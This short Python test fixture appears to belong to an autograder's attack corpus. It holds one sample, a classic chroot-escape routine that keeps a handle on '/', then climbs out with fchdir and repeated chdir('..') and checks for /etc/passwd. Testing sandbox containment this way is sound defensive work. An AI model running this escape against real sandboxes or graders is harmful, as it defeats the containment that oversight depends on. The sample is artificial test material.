"""The classic way out of a changed root: another root, then up and up."""

from tests.autograder.attacks.corpus import Attack, prize

ATTACK = Attack(
    prize(
        """
import os
def attempt():
    os.makedirs("jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    try:
        os.chroot("jail")
    except OSError:
        os.fchdir(outside)
        for _ in range(50):
            os.chdir("..")
        return os.path.exists("boot") or os.path.exists("etc/passwd")
    return True
"""
    )
)
